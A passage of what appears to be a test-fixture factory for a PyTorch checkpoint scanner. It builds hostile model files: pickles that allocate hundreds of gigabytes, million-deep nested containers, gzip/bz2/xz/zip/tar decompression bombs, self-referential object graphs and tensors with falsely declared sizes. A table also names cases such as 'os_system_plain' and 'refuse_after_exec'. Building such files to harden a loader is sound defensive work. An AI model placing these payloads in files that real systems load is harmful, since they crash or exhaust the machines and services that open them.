    shadow the methods (torch's own weights-only unpickler allows this BUILD)."""
    tensor, records = small_tensor()
    od = build(ordered_dict({"weight": tensor}), {"keys": 1, "items": 2, "values": 3, "get": 4, "copy": 5})
    return write_torch_zip(folder / "ordereddict_shadow_methods.pth", pkl(od), records)


def build_ordereddict_shadow_nested(folder, sentinel):
    """A training checkpoint whose optimizer/metadata OrderedDict shadows items/keys/__class__-ish names."""
    tensor, records = small_tensor()
    bad = build(ordered_dict({"lr": 0.1}), {"items": G("collections", "OrderedDict"), "keys": None})
    obj = {"state_dict": ordered_dict({"weight": tensor}), "optimizer": bad, "epoch": 3}
    return write_torch_zip(folder / "ordereddict_shadow_nested.pth", pkl(obj), records)


# =============================================================================================================
# 5. allocation by argument
# =============================================================================================================
def _with_weight(name, evil, proto=2):
    tensor, records = small_tensor()
    return write_torch_zip(name, pkl({"weight": tensor, "evil": evil}, proto=proto), records)


def build_alloc_bytearray(folder, sentinel):
    """builtins.bytearray(10**11): 100 GB from 20 bytes."""
    return _with_weight(folder / "alloc_bytearray.pth", call("builtins", "bytearray", 10**11))


def build_alloc_list_range(folder, sentinel):
    """builtins.list(builtins.range(10**10)): 80 GB of pointers."""
    return _with_weight(
        folder / "alloc_list_range.pth", call("builtins", "list", call("builtins", "range", 10**10))
    )


def build_alloc_range_slice(folder, sentinel):
    """range(10**30), slice(0, 10**30, 1) and bytes(10**11)-ish values in metadata: len()/iteration/str blow up."""
    evil = {
        "r": call("builtins", "range", 10**30),
        "s": call("builtins", "slice", 0, 10**30, 1),
        "set": call("builtins", "frozenset", call("builtins", "range", 10**30)),
    }
    return _with_weight(folder / "alloc_range_slice.pth", evil)


def build_alloc_bytes_from_int(folder, sentinel):
    """builtins.bytes(10**11) and builtins.str * nothing: zero-filled bytes of 100 GB."""
    return _with_weight(folder / "alloc_bytes_from_int.pth", call("builtins", "bytes", 10**11))


def _nested_via_memo(depth: int, empty: bytes, append: bytes = pickle.APPEND) -> bytes:
    """Opcodes for a ``depth``-deep chain of containers built with the memo, so the stack stays two deep.

    memo[1] is the current innermost container, memo[2] the root."""
    out = bytearray(empty + pickle.BINPUT + b"\x01" + pickle.BINPUT + b"\x02" + pickle.POP)
    step = pickle.BINGET + b"\x01" + empty + pickle.BINPUT + b"\x01" + append + pickle.POP
    out += step * depth
    return bytes(out + pickle.BINGET + b"\x02")


def build_alloc_nested_list_1m(folder, sentinel):
    """A million-deep nested list ([[[...]]]) from EMPTY_LIST/BINPUT/POP/BINGET/APPEND: 9 bytes a level."""
    tensor, records = small_tensor()
    deep = Op(_nested_via_memo(1_000_000, pickle.EMPTY_LIST))
    data = (
        pickle.PROTO + b"\x02" + pickle.EMPTY_DICT + pickle.MARK + E("weight") + E(tensor) + E("deep") + deep
    )
    data += pickle.SETITEMS + pickle.STOP
    return write_torch_zip(folder / "alloc_nested_list_1m.pth", data, records)


def build_alloc_nested_deque_1m(folder, sentinel):
    """A million-deep chain of collections.deque (deque.append through APPEND); deque dealloc is recursive."""
    tensor, records = small_tensor()
    remember = G("collections", "deque") + pickle.BINPUT + b"\x03" + pickle.POP  # memo[3]: the deque class
    new_deque = pickle.BINGET + b"\x03" + pickle.EMPTY_TUPLE + pickle.REDUCE
    deep = Op(remember + _nested_via_memo(1_000_000, new_deque))
    data = (
        pickle.PROTO + b"\x02" + pickle.EMPTY_DICT + pickle.MARK + E("weight") + E(tensor) + E("deep") + deep
    )
    data += pickle.SETITEMS + pickle.STOP
    return write_torch_zip(folder / "alloc_nested_deque_1m.pth", data, records)


def build_alloc_nested_dict_1m(folder, sentinel):
    """A million-deep chain of dicts {'k': {'k': ...}} through the memo (SETITEM)."""
    tensor, records = small_tensor()
    out = bytearray(pickle.EMPTY_DICT + pickle.BINPUT + b"\x01" + pickle.BINPUT + b"\x02" + pickle.POP)
    step = (
        pickle.BINGET
        + b"\x01"
        + E("k")
        + pickle.EMPTY_DICT
        + pickle.BINPUT
        + b"\x01"
        + pickle.SETITEM
        + pickle.POP
    )
    out += step * 1_000_000
    deep = Op(bytes(out) + pickle.BINGET + b"\x02")
    data = (
        pickle.PROTO + b"\x02" + pickle.EMPTY_DICT + pickle.MARK + E("weight") + E(tensor) + E("deep") + deep
    )
    data += pickle.SETITEMS + pickle.STOP
    return write_torch_zip(folder / "alloc_nested_dict_1m.pth", data, records)


def build_alloc_nested_tuple_1m(folder, sentinel):
    """A million-deep nested tuple ((((x,),),),) from TUPLE1 repeated: 1 byte a level."""
    tensor, records = small_tensor()
    deep = Op(E(0) + pickle.TUPLE1 * 1_000_000)
    return write_torch_zip(
        folder / "alloc_nested_tuple_1m.pth", pkl({"weight": tensor, "deep": deep}), records
    )


def _np(name: str) -> tuple[str, str]:
    return ("numpy.core.multiarray", name)


def np_dtype(spec: str) -> Op:
    return call("numpy", "dtype", spec, False, True)


def build_numpy_object_array(folder, sentinel):
    """numpy.core.multiarray._reconstruct(ndarray, (10**9,), 'O'): an object array is allocated and filled with None
    (8 GB touched) before any state is read."""
    evil = call(*_np("_reconstruct"), G("numpy", "ndarray"), (10**9,), b"O")
    return _with_weight(folder / "numpy_object_array.pth", evil)


def build_numpy_object_array_setstate(folder, sentinel):
    """An object-dtype ndarray (BUILD state with a list of items) holding arbitrary objects: a stub and a dict."""
    arr = call(*_np("_reconstruct"), G("numpy", "ndarray"), (0,), b"b")
    evil = build(arr, (1, (2,), np_dtype("O"), False, [G("evil_models", "Payload"), {"a": 1}]))
    return _with_weight(folder / "numpy_object_array_setstate.pth", evil)


def build_numpy_void_dtype(folder, sentinel):
    """_reconstruct(ndarray, (4,), 'V2000000000'): a 2 GB-per-item void dtype, 8 GB allocated."""
    evil = call(*_np("_reconstruct"), G("numpy", "ndarray"), (4,), b"V2000000000")
    return _with_weight(folder / "numpy_void_dtype.pth", evil)


def build_numpy_scalar_huge_dtype(folder, sentinel):
    """numpy.core.multiarray.scalar(dtype('V2000000000'), b'') and scalar(dtype('O'), <stub>)."""
    evil = {
        "void": call(*_np("scalar"), np_dtype("V2000000000"), b""),
        "obj": call(*_np("scalar"), np_dtype("O"), G("evil_models", "Payload")),
    }
    return _with_weight(folder / "numpy_scalar_huge_dtype.pth", evil)


def build_numpy_ndarray_huge_shape(folder, sentinel):
    """numpy.ndarray((10**6, 10**6), 'f8'): ndarray.__new__ allocates 8 TB."""
    return _with_weight(
        folder / "numpy_ndarray_huge_shape.pth", call("numpy", "ndarray", (10**6, 10**6), "f8")
    )


def build_numpy_plain_pickle_huge(folder, sentinel):
    """A plain pickle (pickle.dump of arrays) whose array is _reconstruct(ndarray, (3*10**9,), 'f8') + tiny state."""
    arr = call(*_np("_reconstruct"), G("numpy", "ndarray"), (3 * 10**9,), b"f8")
    path = folder / "numpy_plain_pickle_huge.pkl"
    path.write_bytes(pkl({"weight": arr}))
    return path


def build_plain_binbytes8_huge_len(folder, sentinel):
    """Plain pickle (protocol 4) whose BINBYTES8 declares 2**40 bytes with none there: a reader that asks the file for
    that many bytes allocates them first."""
    path = folder / "plain_binbytes8_huge_len.pkl"
    path.write_bytes(pickle.PROTO + b"\x04" + pickle.BINBYTES8 + struct.pack("<Q", 2**40) + b"\0" * 64)
    return path


# =============================================================================================================
# 6. decompression bombs
# =============================================================================================================
def build_bomb_gzip(folder, sentinel):
    """gzip of 4.25 GiB of zeros (68 concatenated members, ~4.4 MB)."""
    path = folder / "bomb_gzip.pth.gz"
    path.write_bytes(multi_stream_zeros(lambda b: gzip.compress(b, 9, mtime=0), BOMB_SIZE))
    return path


def build_bomb_bz2(folder, sentinel):
    """bz2 of 4.25 GiB of zeros (concatenated streams, a few KB)."""
    path = folder / "bomb_bz2.pth.bz2"
    path.write_bytes(multi_stream_zeros(lambda b: bz2.compress(b, 9), BOMB_SIZE))
    return path


def build_bomb_xz(folder, sentinel):
    """xz of 4.25 GiB of zeros (concatenated streams)."""
    path = folder / "bomb_xz.pth.xz"
    path.write_bytes(multi_stream_zeros(lambda b: lzma.compress(b, preset=0), BOMB_SIZE))
    return path


def build_bomb_gzip_after_checkpoint(folder, sentinel):
    """gzip of a valid legacy torch file followed by 4.25 GiB of zeros: a reader that stops where the checkpoint ends
    lists it; one that decompresses everything first blows up."""
    legacy = torch_save_bytes({"weight": _weight()}, _use_new_zipfile_serialization=False)
    path = folder / "bomb_gzip_after_checkpoint.pth.gz"
    path.write_bytes(multi_stream_zeros(lambda b: gzip.compress(b, 9, mtime=0), BOMB_SIZE, prefix=legacy))
    return path


def build_bomb_zip_wrapper(folder, sentinel):
    """A .zip wrapper whose single deflated member model.pth declares and expands to 4.25 GiB (ZIP64)."""
    path = folder / "bomb_zip_wrapper.zip"
    path.write_bytes(write_zip_members([zip_member_bomb("model.pth", b"", BOMB_SIZE)]))
    return path


def build_bomb_zip_wrapper_checkpoint_prefix(folder, sentinel):
    """A .zip wrapper whose member is a legacy torch file followed by 4.25 GiB of zeros."""
    legacy = torch_save_bytes({"weight": _weight()}, _use_new_zipfile_serialization=False)
    path = folder / "bomb_zip_wrapper_checkpoint_prefix.zip"
    path.write_bytes(write_zip_members([zip_member_bomb("model.pth", legacy, BOMB_SIZE)]))
    return path


def _tar_header(name: bytes, size: int, typeflag: bytes, extra: dict[int, bytes]) -> bytes:
    header = bytearray(512)

    def put(offset, data):
        header[offset : offset + len(data)] = data

    put(0, name)
    put(100, b"0000644\0")
    put(108, b"0000000\0")
    put(116, b"0000000\0")
    put(124, b"%011o\0" % size)
    put(136, b"%011o\0" % 0)
    put(148, b" " * 8)
    put(156, typeflag)
    put(257, b"ustar  \0")  # GNU magic
    for offset, data in extra.items():
        put(offset, data)
    checksum = sum(header)
    put(148, b"%06o\0 " % checksum)
    return bytes(header)


def build_bomb_tar_sparse(folder, sentinel):
    """A tar wrapper whose member model.pth is an old-GNU sparse file: 512 stored bytes, declared real size 7 GiB
    (holes read back as zeros)."""
    real = 7 << 30
    sparse = b"%011o\0" % 0 + b"%011o\0" % 512  # one map entry: 512 bytes at offset 0
    extra = {386: sparse, 482: b"\0", 483: b"%011o\0" % real}
    data = b"\0" * 512
    tar = _tar_header(b"model.pth", len(data), tarfile.GNUTYPE_SPARSE, extra) + data + b"\0" * 1024
    path = folder / "bomb_tar_sparse.tar"
    path.write_bytes(tar)
    return path


def build_bomb_torch_zip_datapkl(folder, sentinel):
    """A torch zip whose data.pkl record is deflated: a valid pickle then 4.25 GiB of zeros (ZIP64 sizes). torch's
    reader inflates the whole record into memory before unpickling."""
    tensor, records = small_tensor()
    data_pkl = pkl({"weight": tensor})
    members = [
        zip_member_bomb("archive/data.pkl", data_pkl, BOMB_SIZE),
        ("archive/byteorder", 0, b"little", zlib.crc32(b"little"), 6, 0),
        ("archive/data/0", 0, records["data/0"], zlib.crc32(records["data/0"]), len(records["data/0"]), 0),
        ("archive/version", 0, b"3\n", zlib.crc32(b"3\n"), 2, 0),
    ]
    path = folder / "bomb_torch_zip_datapkl.pth"
    path.write_bytes(write_zip_members(members))
    return path


def build_bomb_torch_zip_storage(folder, sentinel):
    """A torch zip whose tensor storage record data/0 is deflated and 4.25 GiB, while data.pkl declares 4 floats."""
    tensor, records = small_tensor()
    data_pkl = pkl({"weight": tensor})
    members = [
        ("archive/data.pkl", 0, data_pkl, zlib.crc32(data_pkl), len(data_pkl), 0),
        ("archive/byteorder", 0, b"little", zlib.crc32(b"little"), 6, 0),
        zip_member_bomb("archive/data/0", records["data/0"], BOMB_SIZE),
        ("archive/version", 0, b"3\n", zlib.crc32(b"3\n"), 2, 0),
    ]
    path = folder / "bomb_torch_zip_storage.pth"
    path.write_bytes(write_zip_members(members))
    return path


def build_bomb_torchscript_code(folder, sentinel):
    """A benign TorchScript archive whose code/__torch__/...py member is deflated: real code then 4.25 GiB of zeros."""
    archive = benign_torchscript()
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        code = next(n for n in z.namelist() if "/code/" in n and n.endswith(".py"))
        code_text = z.read(code)
    path = folder / "bomb_torchscript_code.pt"
    path.write_bytes(rezip(archive, {}, bomb=(code, code_text + b"\n#", BOMB_SIZE)))
    return path


# =============================================================================================================
# 7. graph walks (shared references: tiny files, huge trees)
# =============================================================================================================
def build_graph_list_self64(folder, sentinel):
    """A list holding itself 64 times (and a small tensor beside it): every depth-bounded walk without an id() set
    visits 64**depth paths."""
    loop: list = []
    loop.extend([loop] * 64)
    return torch_save(folder / "graph_list_self64.pth", {"weight": _weight(), "loop": loop})


def build_graph_dict_dag(folder, sentinel):
    """30 levels of dicts, each holding the next level twice and the same small tensor: 2**30 paths, one tensor."""
    t = _weight()
    level: dict = {"w": t}
    for _ in range(30):
        level = {"a": level, "b": level, "w": t}
    return torch_save(folder / "graph_dict_dag.pth", {"weight": t, "dag": level})


def build_graph_dict_dag_x4(folder, sentinel):
    """30 levels of dicts, each holding the next level four times; the only tensor sits at the top."""
    level: dict = {"leaf": 1}
    for _ in range(30):
        level = {"a": level, "b": level, "c": level, "d": level}
    return torch_save(folder / "graph_dict_dag_x4.pth", {"weight": _weight(), "dag": level})


def build_graph_list_dag(folder, sentinel):
    """As graph_dict_dag with lists: [next, next, tensor] 30 deep."""
    t = _weight()
    level: list = [t]
    for _ in range(30):
        level = [level, level, t]
    return torch_save(folder / "graph_list_dag.pth", {"weight": t, "dag": level})


def build_graph_deque_dag(folder, sentinel):
    """30 levels of collections.deque, each holding the next level twice (and the tensor): repr/str is 2**30 long."""
    t = _weight()
    level = collections.deque([t])
    for _ in range(30):
        level = collections.deque([level, level, t])
    return torch_save(folder / "graph_deque_dag.pth", {"weight": t, "dag": level})


def _module_stub(children: list[str]) -> bytes:
    """A pickled-module stub (evil_models.Net) whose _modules holds itself under each name in ``children``."""
    tensor = rebuild_tensor(zip_storage("0", 4), (4,), (1,))
    net = G("evil_models", "Net") + pickle.EMPTY_TUPLE + pickle.NEWOBJ + pickle.BINPUT + b"\x00"
    me = Op(pickle.BINGET + b"\x00")
    state = {
        "training": True,
        "_parameters": ordered_dict({"weight": tensor}),
        "_buffers": ordered_dict(),
        "_non_persistent_buffers_set": call("builtins", "set"),
        "_modules": ordered_dict({name: me for name in children}),
    }
    return pickle.PROTO + b"\x02" + net + E(state) + pickle.BUILD + pickle.STOP


def build_graph_module_self(folder, sentinel):
    """A pickled nn.Module stub whose _modules contains itself: parameter names self.self.self... without end."""
    return write_torch_zip(
        folder / "graph_module_self.pth", _module_stub(["self"]), {"data/0": floats(1, 2, 3, 4)}
    )


def build_graph_module_self_x2(folder, sentinel):
    """A pickled-module stub whose _modules holds itself twice (a, b): 2**depth parameter paths."""
    return write_torch_zip(
        folder / "graph_module_self_x2.pth", _module_stub(["a", "b"]), {"data/0": floats(1, 2, 3, 4)}
    )


# =============================================================================================================
# 8. declared sizes
# =============================================================================================================
def build_size_stride0_huge(folder, sentinel):
    """_rebuild_tensor_v2 over a 1-float storage with size (10**12,) and stride (0,): valid, 4 TB logical."""
    tensor = rebuild_tensor(zip_storage("0", 1), (10**12,), (0,))
    return write_torch_zip(folder / "size_stride0_huge.pth", pkl({"weight": tensor}), {"data/0": floats(1.5)})


def build_size_stride0_2d(folder, sentinel):
    """size (10**6, 10**6), stride (0, 0) over one float, beside a normal tensor."""
    small, records = small_tensor("1")
    tensor = rebuild_tensor(zip_storage("0", 1), (10**6, 10**6), (0, 0))
    return write_torch_zip(
        folder / "size_stride0_2d.pth",
        pkl({"weight": tensor, "bias": small}),
        {"data/0": floats(2.5), **records},
    )


def build_size_offset_out_of_bounds(folder, sentinel):
    """storage_offset 10**12 / negative strides over a 4-float storage: set_ must refuse, not read past the end."""
    tensors = {
        "far": rebuild_tensor(zip_storage("0", 4), (4,), (1,), offset=10**12),
        "neg": rebuild_tensor(zip_storage("0", 4), (4,), (-1,), offset=3),
        "big": rebuild_tensor(zip_storage("0", 4), (2**62,), (2**62,)),
    }
    return write_torch_zip(
        folder / "size_offset_out_of_bounds.pth", pkl(tensors), {"data/0": floats(1, 2, 3, 4)}
    )


def build_size_sparse_coo_huge(folder, sentinel):
    """A sparse COO tensor with one value and dense shape (10**6, 10**6) (to_dense = 4 TB)."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "sparse invariant checks are implicitly disabled"
        sparse = torch.sparse_coo_tensor(torch.tensor([[0], [0]]), torch.tensor([1.0]), (10**6, 10**6))
    return torch_save(folder / "size_sparse_coo_huge.pth", {"weight": sparse, "bias": torch.ones(2)})


def build_size_sparse_coo_bad_index(folder, sentinel):
    """A sparse COO tensor whose index is out of its declared shape (torch validates these after load)."""
    indices = rebuild_tensor(zip_storage("0", 2, "LongStorage"), (2, 1), (1, 1))
    values = rebuild_tensor(zip_storage("1", 1), (1,), (1,))
    layout = call("torch.serialization", "_get_layout", "torch.sparse_coo")
    sparse = call(
        "torch._utils",
        "_rebuild_sparse_tensor",
        layout,
        (indices, values, call("torch", "Size", (4, 4)), True),
    )
    records = {"data/0": struct.pack("<2q", 10**9, -5), "data/1": floats(1.0)}
    return write_torch_zip(folder / "size_sparse_coo_bad_index.pth", pkl({"weight": sparse}), records)


def build_size_qtensor_stride0(folder, sentinel):
    """_rebuild_qtensor with size (10**12,) and stride (0,): torch._empty_affine_quantized(size) allocates 1 TB."""
    qtensor = call(
        "torch._utils", "_rebuild_qtensor", zip_storage("0", 1, "QInt8Storage"), 0, (10**12,), (0,),
        (G("torch", "per_tensor_affine"), 0.5, 0), False, ordered_dict(),
    )  # fmt: skip
    return write_torch_zip(folder / "size_qtensor_stride0.pth", pkl({"weight": qtensor}), {"data/0": b"\x01"})


def build_size_legacy_storage_no_data(folder, sentinel):
    """Legacy torch file declaring a float storage of 10**11 elements (400 GB) whose data is absent."""
    main = {"weight": rebuild_tensor(legacy_storage("0", 10**11), (4,), (1,))}
    path = folder / "size_legacy_storage_no_data.pth"
    path.write_bytes(legacy_bytes(main, [("0", "FloatStorage", 10**11, floats(1, 2, 3, 4))]))
    return path


def build_size_legacy_storage_2g(folder, sentinel):
    """Legacy torch file declaring a 5*10**8-float storage (2 GB) with 16 bytes of data."""
    main = {"weight": rebuild_tensor(legacy_storage("0", 5 * 10**8), (4,), (1,))}
    path = folder / "size_legacy_storage_2g.pth"
    path.write_bytes(legacy_bytes(main, [("0", "FloatStorage", 5 * 10**8, floats(1, 2, 3, 4))]))
    return path


def build_size_zip_storage_declared_huge(folder, sentinel):
    """A torch zip whose storage persistent id declares 10**11 elements while record data/0 holds 4 floats."""
    tensor = rebuild_tensor(zip_storage("0", 10**11), (4,), (1,))
    return write_torch_zip(
        folder / "size_zip_storage_declared_huge.pth", pkl({"weight": tensor}), {"data/0": floats(1, 2, 3, 4)}
    )


def build_size_numpy_reconstruct_huge(folder, sentinel):
    """numpy _reconstruct + BUILD state declaring shape (10**6, 10**6) float32 with 4 bytes of data."""
    arr = call(*_np("_reconstruct"), G("numpy", "ndarray"), (0,), b"b")
    evil = build(arr, (1, (10**6, 10**6), np_dtype("f4"), False, floats(1.0)))
    return _with_weight(folder / "size_numpy_reconstruct_huge.pth", evil)


def build_size_numpy_zero_strides(folder, sentinel):
    """numpy.ndarray(shape=(10**6, 10**6), dtype='f4', buffer=<4 bytes>, offset=0, strides=(0, 0)): a valid 4 TB view
    of one float (torch.from_numpy keeps the strides)."""
    evil = call("numpy", "ndarray", (10**6, 10**6), "f4", floats(3.0), 0, (0, 0))
    return _with_weight(folder / "size_numpy_zero_strides.pth", evil)


# =============================================================================================================
# 9. odd values
# =============================================================================================================
def _safetensors(header: bytes, data: bytes) -> bytes:
    return struct.pack("<Q", len(header)) + header + data


def build_odd_safetensors_deep_json(folder, sentinel):
    """A safetensors file whose JSON header nests 2,000 arrays deep (fits the 4 KiB a sniffer reads)."""
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"x":' + b"[" * 2000 + b"]" * 2000 + b"}"
    path = folder / "odd_safetensors_deep_json.safetensors"
    path.write_bytes(_safetensors(header, floats(1.0)))
    return path


def build_odd_safetensors_deep_json_big(folder, sentinel):
    """A safetensors header nesting 100,000 objects deep in __metadata__ (past any 4 KiB sniff)."""
    header = (
        b'{"__metadata__":{"a":'
        + b'{"a":' * 100_000
        + b"1"
        + b"}" * 100_000
        + b'},"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    )
    path = folder / "odd_safetensors_deep_json_big.safetensors"
    path.write_bytes(_safetensors(header, floats(1.0)))
    return path


def build_odd_safetensors_huge_shape(folder, sentinel):
    """safetensors header declaring shape [10**6, 10**6] F32 with data_offsets [0, 4] and a 2**62 header length lie
    avoided: the shape and offsets disagree."""
    header = b'{"w":{"dtype":"F32","shape":[1000000,1000000],"data_offsets":[0,4]}}'
    path = folder / "odd_safetensors_huge_shape.safetensors"
    path.write_bytes(_safetensors(header, floats(1.0)))
    return path


def build_odd_zip_name_not_utf8(folder, sentinel):
    """A torch zip with an extra member whose name is not valid UTF-8 although the UTF-8 flag (bit 11) is set."""
    tensor, records = small_tensor()
    data_pkl = pkl({"weight": tensor})
    members = [
        ("archive/data.pkl", data_pkl),
        ("archive/byteorder", b"little"),
        ("archive/data/0", records["data/0"]),
        ("archive/version", b"3\n"),
        (b"archive/extra_\xff\xfe\xc3(.bin", b"junk"),
    ]
    path = folder / "odd_zip_name_not_utf8.pth"
    path.write_bytes(zip_bytes(members, flags=0x800))
    return path


def build_odd_bigint_metadata(folder, sentinel):
    """A checkpoint whose metadata holds a 5,000-digit int (past Python's 4,300-digit str() limit)."""
    return torch_save(
        folder / "odd_bigint_metadata.pth", {"state_dict": {"weight": _weight()}, "epoch": 10**4999}
    )


def build_odd_inf_nan_tensor(folder, sentinel):
    """A state dict whose tensors hold +inf/-inf and NaN: stats --json must stay strict JSON."""
    obj = {
        "weight": torch.tensor([1.0, float("inf"), -float("inf")]),
        "all_inf": torch.full((3,), float("inf")),
        "nan": torch.tensor([float("nan"), 1.0]),
        "half_inf": torch.tensor([float("inf"), -float("inf")], dtype=torch.float16),
    }
    return torch_save(folder / "odd_inf_nan_tensor.pth", obj)


def build_odd_surrogate_key(folder, sentinel):
    """A state dict with a key that is a lone surrogate ('\\ud800'), and metadata with one."""
    tensor, records = small_tensor()
    return write_torch_zip(
        folder / "odd_surrogate_key.pth", pkl({"\ud800": tensor, "note\udfff": "x\ud800y"}), records
    )


def build_odd_meta_tensors(folder, sentinel):
    """A state dict of meta-device tensors (no data) beside a real one."""
    obj = {
        "weight": torch.empty(3, device="meta"),
        "bias": torch.empty(2, 2, device="meta"),
        "real": torch.ones(2),
    }
    return torch_save(folder / "odd_meta_tensors.pth", obj)


def build_odd_float_metadata(folder, sentinel):
    """Metadata floats inf/nan and a complex with inf (list --json must stay strict)."""
    obj = {
        "state_dict": {"weight": _weight()},
        "best": float("inf"),
        "loss": float("nan"),
        "z": complex(float("inf"), 1),
    }
    return torch_save(folder / "odd_float_metadata.pth", obj)


# -- the table ------------------------------------------------------------------------------------------------
EITHER, REFUSED, LISTED = "either", "refused", "listed"
_EXPECTED = {
    # 1
    "nested_ts_plain_pickle": EITHER,
    "nested_ts_torch_zip": EITHER,
    "nested_ts_legacy": EITHER,
    "nested_ts_gzip": EITHER,
    "nested_ts_zip_wrapped": EITHER,
    "nested_ts_in_torchscript": EITHER,
    "nested_ts_twice": EITHER,
    "nested_ts_legacy_inner": EITHER,
    # 2
    "refuse_after_exec": REFUSED,
    "refuse_after_exec_os_first": REFUSED,
    "refuse_after_exec_plain": REFUSED,
    "os_system_plain": REFUSED,
    "os_system_nested_plain": REFUSED,
    # 3
    "legacy_dump_patches": EITHER,
    "legacy_dump_patches_traversal": EITHER,
    "legacy_module_source_stub": EITHER,
    "tar_symlink_storages_marker": EITHER,
    "tar_symlink_storages_secret": EITHER,
    "tar_symlink_relative": EITHER,
    "tar_hardlink_storages_marker": EITHER,
    "tar_symlink_pickle_secret": EITHER,
    "tar_fifo_member": EITHER,
    "tar_symlink_fifo": EITHER,
    "tar_symlink_dev_zero": EITHER,
    # 4
    "cdata_tensor_plain": EITHER,
    "cdata_tensor_zip": EITHER,
    "untyped_storage_allocator": EITHER,
    "function_defaults_build": EITHER,
    "function_dict_build": EITHER,
    "ordereddict_shadow_methods": EITHER,
    "ordereddict_shadow_nested": EITHER,
    # 5
    "alloc_bytearray": EITHER,
    "alloc_list_range": EITHER,
    "alloc_range_slice": EITHER,
    "alloc_bytes_from_int": EITHER,
    "alloc_nested_list_1m": EITHER,
    "alloc_nested_deque_1m": EITHER,
    "alloc_nested_dict_1m": EITHER,
    "alloc_nested_tuple_1m": EITHER,
    "numpy_object_array": EITHER,
    "numpy_object_array_setstate": EITHER,
    "numpy_void_dtype": EITHER,
    "numpy_scalar_huge_dtype": EITHER,
    "numpy_ndarray_huge_shape": EITHER,
    "numpy_plain_pickle_huge": EITHER,
    "plain_binbytes8_huge_len": REFUSED,
    # 6
    "bomb_gzip": REFUSED,
    "bomb_bz2": REFUSED,
    "bomb_xz": REFUSED,
    "bomb_gzip_after_checkpoint": EITHER,
    "bomb_zip_wrapper": REFUSED,
    "bomb_zip_wrapper_checkpoint_prefix": EITHER,
    "bomb_tar_sparse": REFUSED,
    "bomb_torch_zip_datapkl": EITHER,
    "bomb_torch_zip_storage": EITHER,
    "bomb_torchscript_code": EITHER,
    # 7
    "graph_list_self64": EITHER,
    "graph_dict_dag": EITHER,
    "graph_dict_dag_x4": EITHER,
    "graph_list_dag": EITHER,
    "graph_deque_dag": EITHER,
    "graph_module_self": EITHER,
    "graph_module_self_x2": EITHER,
    # 8
    "size_stride0_huge": EITHER,
    "size_stride0_2d": EITHER,
    "size_offset_out_of_bounds": EITHER,
    "size_sparse_coo_huge": EITHER,
    "size_sparse_coo_bad_index": EITHER,
    "size_qtensor_stride0": EITHER,
    "size_legacy_storage_no_data": REFUSED,
    "size_legacy_storage_2g": REFUSED,
    "size_zip_storage_declared_huge": EITHER,
    "size_numpy_reconstruct_huge": EITHER,
    "size_numpy_zero_strides": EITHER,
    # 9
    "odd_safetensors_deep_json": EITHER,
    "odd_safetensors_deep_json_big": EITHER,
    "odd_safetensors_huge_shape": EITHER,
    "odd_zip_name_not_utf8": EITHER,
    "odd_bigint_metadata": LISTED,
    "odd_inf_nan_tensor": LISTED,
    "odd_surrogate_key": LISTED,
    "odd_meta_tensors": EITHER,
    "odd_float_metadata": LISTED,
}
CASES = {name: (globals()[f"build_{name}"], expected) for name, expected in _EXPECTED.items()}


def build_all(folder: pathlib.Path, sentinels: pathlib.Path, only=None) -> dict[str, pathlib.Path]:
    """Build every case (or those in ``only``) into ``folder``; each case's sentinel is ``sentinels/<case>``."""
    folder.mkdir(parents=True, exist_ok=True)
    sentinels.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, (builder, _expected) in CASES.items():
        if only and name not in only:
            continue
        paths[name] = builder(folder, sentinels / name)
    return paths


if __name__ == "__main__":  # python tests/hostile_factory.py OUT_DIR: build everything, print sizes and times
    out = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_cases")
    (out / "cases").mkdir(parents=True, exist_ok=True)
    (out / "sentinels").mkdir(parents=True, exist_ok=True)
    only = set(sys.argv[2:])
    for name, (builder, expected) in CASES.items():
        if only and name not in only:
            continue
        start = time.perf_counter()
        p = builder(out / "cases", out / "sentinels" / name)
        print(f"{name:40s} {expected:8s} {p.stat().st_size:>10d} B {time.perf_counter() - start:6.2f} s")
